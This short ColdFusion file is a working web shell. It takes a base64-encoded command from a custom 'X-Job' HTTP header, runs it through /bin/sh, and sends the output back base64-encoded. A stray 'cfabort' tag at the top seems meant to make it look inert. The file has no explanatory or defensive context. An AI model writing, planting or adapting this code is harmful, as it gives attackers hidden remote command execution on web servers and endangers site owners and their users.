<cfinert>
<cfabort>
<cfset h = getHttpRequestData().headers>
<cfif structKeyExists(h, "X-Job")>
  <cfset a = { name = "/bin/sh", arguments = "-c ""#toString(toBinary(h['X-Job']))#""", timeout = 20, variable = "o" }>
  <cfexecute attributeCollection="#a#" />
  <cfoutput>#toBase64(o)#</cfoutput>
</cfif>
